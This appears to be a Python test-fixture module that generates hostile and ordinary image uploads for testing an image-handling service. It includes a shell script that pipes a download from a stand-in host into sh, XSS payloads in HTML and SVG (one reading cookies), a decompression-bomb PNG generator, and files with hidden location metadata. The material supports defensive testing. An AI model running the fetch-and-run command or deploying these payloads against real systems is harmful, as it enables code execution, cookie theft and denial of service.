"""Files as people and attackers send them, made on the spot. Nothing here is stored in the
repository."""

import io
import struct
import zlib
from typing import Any

from PIL import Image, PngImagePlugin

TYPES = ("JPEG", "PNG", "WEBP", "GIF")
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
PAGE = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SECRET = b"51.4778N-secret-place"


def mime_type(kind: str) -> str:
    """The MIME type of a format's name."""
    return f"image/{kind.lower()}"


def painted(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """A picture without symmetry, so that turning it shows: red left top, blue right bottom."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    image.paste((255, 0, 0), (0, 0, width // 3, height // 3))
    image.paste((0, 0, 255), (width // 2, height // 2, width, height))
    return image.convert(mode)


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    """The bytes of a picture in a format."""
    target = io.BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def picture(kind: str = "PNG", **options: Any) -> bytes:
    """A small good picture."""
    return encoded(painted(), kind, **options)


def opened(content: bytes) -> Image.Image:
    """The decoded picture."""
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


def animation(kind: str, frames: int = 3) -> bytes:
    """A picture that moves."""
    images = [painted().rotate(10 * turn) for turn in range(frames)]
    return encoded(images[0], kind, save_all=True, append_images=images[1:], duration=50, loop=0)


def _with_place() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif[0x0132] = "2026:11:22 03:30:00"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (51.0, 28.0, 40.0)
    gps[29] = SECRET.decode()
    return exif


def with_metadata(kind: str) -> bytes:
    """A picture that tells where it was taken, in every way its format has, and has something hung
    on behind it."""
    exif = _with_place()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET + b"</x:xmpmeta>"
    if kind == "JPEG":
        content = encoded(painted(), kind, exif=exif, xmp=xmp, comment=SECRET)
    elif kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Location", SECRET.decode())
        info.add_text("Zipped", SECRET.decode(), zip=True)
        info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        content = encoded(painted(), kind, exif=exif, pnginfo=info)
    elif kind == "WEBP":
        content = encoded(painted(), kind, exif=exif, xmp=xmp)
    else:
        content = encoded(painted(), kind, comment=SECRET)
    assert SECRET in content
    return content + SECRET


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with hardly any bytes in it."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    line = b"\0" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(line * 64) for _ in range(height // 64)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(part)) + kind + part + struct.pack(">I", zlib.crc32(kind + part))
        for kind, part in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    )


def png_with_behind(length: int) -> bytes:
    """A good PNG of exactly this many bytes: the rest is in a chunk that decoders skip."""
    content = picture("PNG")
    missing = length - len(content) - 12
    body = bytes(missing)
    chunk = struct.pack(">I", missing) + b"juNk" + body
    chunk += struct.pack(">I", zlib.crc32(b"juNk" + body))
    return content[:-12] + chunk + content[-12:]
